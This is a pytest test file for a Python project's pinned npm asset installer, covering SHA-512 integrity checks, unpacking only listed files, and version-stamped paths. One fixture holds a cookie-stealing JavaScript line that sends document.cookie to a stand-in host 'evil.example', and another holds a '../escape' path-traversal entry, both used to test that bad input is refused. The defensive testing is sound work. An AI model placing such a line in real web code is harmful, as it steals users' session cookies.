"""Pinned npm assets: a tarball is used only if its SHA-512 is the pinned one, and only the
listed files are taken from it."""

from __future__ import annotations

import io
import tarfile
from pathlib import Path

import pytest

from shugu import webassets
from shugu.webassets import AssetError, NpmAsset, check_integrity, integrity_of, unpack


def tarball(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for name, data in files.items():
            info = tarfile.TarInfo(f"package/{name}")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def test_integrity_is_npms_sha512_form() -> None:
    # The registry's dist.integrity of an empty body would read so.
    assert integrity_of(b"") == (
        "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg=="
    )


def test_a_tarball_other_than_the_pinned_one_is_refused() -> None:
    good = tarball({"bundle.js": b"console.log(1)\n"})
    asset = NpmAsset("example", "1.0.0", integrity_of(good), ("bundle.js",))
    check_integrity(asset, good)
    evil = tarball({"bundle.js": b"fetch('https://evil.example/?'+document.cookie)\n"})
    with pytest.raises(AssetError, match="not the pinned"):
        check_integrity(asset, evil)


def test_only_listed_files_are_unpacked_and_a_missing_one_is_an_error(tmp_path: Path) -> None:
    data = tarball(
        {"dist/app.js": b"a", "dist/app.js.map": b"m", "LICENSE": b"MIT", "../escape": b"x"}
    )
    asset = NpmAsset("example", "1.0.0", integrity_of(data), ("dist/app.js", "LICENSE"))
    unpack(asset, data, tmp_path)
    written = sorted(str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*") if p.is_file())
    assert written == ["LICENSE", "dist/app.js"]
    assert not (tmp_path.parent / "escape").exists()

    lacking = NpmAsset("example", "1.0.0", integrity_of(data), ("dist/app.js", "dist/app.css"))
    with pytest.raises(AssetError, match=r"has no dist/app\.css"):
        unpack(lacking, data, tmp_path / "again")


def test_folders_and_urls_carry_the_version() -> None:
    assert webassets.SWAGGER_UI.folder == "swagger-ui-dist-5.35.0"
    assert webassets.NpmAsset("@scope/pkg", "2.1.0", "", ()).folder == "pkg-2.1.0"
    assert webassets.REDOC.url("bundles/redoc.standalone.js") == (
        "/static/vendor/redoc-2.5.4/bundles/redoc.standalone.js"
    )


def test_the_pinned_assets_are_installed_with_their_stamp() -> None:
    for asset in webassets.ASSETS:
        assert webassets.is_installed(asset), f"{asset.name}: run `make install`"
        for file in asset.files:
            assert asset.path(file).is_file(), file
        # No source maps or other files of the package beyond the list (and the stamp).
        present = {
            str(p.relative_to(webassets.VENDOR_DIR / asset.folder))
            for p in (webassets.VENDOR_DIR / asset.folder).rglob("*")
            if p.is_file()
        }
        assert present == {*asset.files, ".integrity"}
